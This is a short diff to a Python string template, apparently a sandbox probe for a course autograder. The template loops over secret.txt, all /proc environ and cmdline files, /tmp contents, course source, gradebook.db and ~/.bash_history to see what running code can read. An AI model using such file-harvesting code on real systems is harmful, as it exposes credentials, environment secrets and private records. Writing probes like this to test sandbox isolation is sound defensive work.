@@ -223,7 +223,9 @@ LOOK = """
 import glob, os, socket
 
 for path in ["{path}/secret.txt", *glob.glob("/proc/[0-9]*/environ"), "/proc/{pid}/environ",
-             *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("/tmp/**/*.*", recursive=True),
+             *glob.glob("/proc/[0-9]*/cmdline"),
+             *[path for path in glob.glob("/tmp/**/*.*", recursive=True)
+               if not path.startswith("{root}/")],  # the course itself, where it stands in /tmp
              *glob.glob("{root}/source/**", recursive=True), *glob.glob("../../../source/*/*"),
              "{root}/gradebook.db", os.path.expanduser("~/.bash_history")]:
     try:
